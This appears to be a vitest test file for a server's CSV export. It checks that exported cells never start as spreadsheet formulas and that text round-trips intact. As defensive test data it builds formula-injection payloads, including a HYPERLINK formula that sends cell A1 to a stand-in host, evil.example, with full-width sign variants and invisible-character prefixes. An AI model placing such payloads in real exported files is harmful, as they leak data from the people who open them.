/** Tables that people download: what any program makes a cell of is no formula, and every letter arrives. */
import { parse } from 'csv-parse/sync';
import { expect, test } from 'vitest';
import { csvFile, csvText } from '../../../server/text/csv.ts';

const signs = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '﹦', '﹢', '﹣', '﹫'];
const ends = [',', ';', '\t', '|', '\r', '\n', '\r\n', '\u2028', '\u2029', '\u0085', '\v', '\f', '"', '";"'];
const unseen = ['', ' ', '\u00A0', '\u3000', '\u200B', '\uFEFF', '\u00AD', '"'];
const isFormula = (cell: string) => /^[\p{C}\p{Z}"]*[=+\-@＝＋－＠﹦﹢﹣﹫]/u.test(cell);

const hostile = signs.flatMap((sign) => [
  ...unseen.map((before) => `${before}${sign}1+1`),
  ...ends.flatMap((end) =>
    unseen.map((before) => `Ana${end}${before}${sign}HYPERLINK("https://evil.example/?"&A1)`),
  ),
]);

test.each([',', ';', '\t', '|', /[\r\n\u2028\u2029\u0085\v\f]/, /[,;\t|\r\n\u2028\u2029\u0085]/])(
  'split at %s without regard to quotation marks, no cell is a formula',
  (separator) => {
    for (const text of hostile) {
      const lines = csvText(['name'], [[text, 1, text]])
        .slice(1)
        .split('\r\n');
      expect(lines.flatMap((line) => line.split(separator)).filter(isFormula), JSON.stringify(text)).toEqual(
        [],
      );
    }
  },
);

test.each([',', ';', '\t', '|'])('read with %s as the separator, no cell is a formula', (delimiter) => {
  for (const text of hostile) {
    const rows: string[][] = parse(csvText(['name'], [[text, text, 5]]), {
      ...{ delimiter, bom: true, relax_quotes: true, relax_column_count: true },
    });
    expect(rows.flat().filter(isFormula), JSON.stringify(text)).toEqual([]);
  }
});

test.each([
  'DéÑandúZoë ʻOkina 山田',
  'a, b; c\td | e',
  'She said "yes"',
  'one\r\ntwo\nthree\rfour',
  ' a blank before',
  'a blank after ',
  'x\u2028y',
  "it's 3 - 4 = -1 degrees",
  'name@example.org',
  '',
])('%j is read as it was written', (text) => {
  expect(parse(csvText(['name', 'n'], [[text, 7]]), { bom: true, relax_column_count: true })).toEqual([
    ['name', 'n'],
    [text, '7'],
  ]);
});

test('numbers of ours stay numbers, and nothing is an empty cell', () => {
  expect(csvText(['a', 'b', 'c', 'd'], [[-1.5, 0, null, true]])).toBe('\uFEFFa,b,c,d\r\n-1.5,0,,true\r\n');
});

test('a file begins with a byte order mark, unless its address says otherwise', async () => {
  const textOf = async (query: Record<string, string>) => {
    let text = '';
    for await (const part of csvFile('x', query, ['a'], [[['ü']], [['ö']]]).file) text += part;
    return text;
  };
  expect(await textOf({})).toBe('\uFEFFa\r\nü\r\nö\r\n');
  expect(await textOf({ bom: 'no' })).toBe('a\r\nü\r\nö\r\n');
});
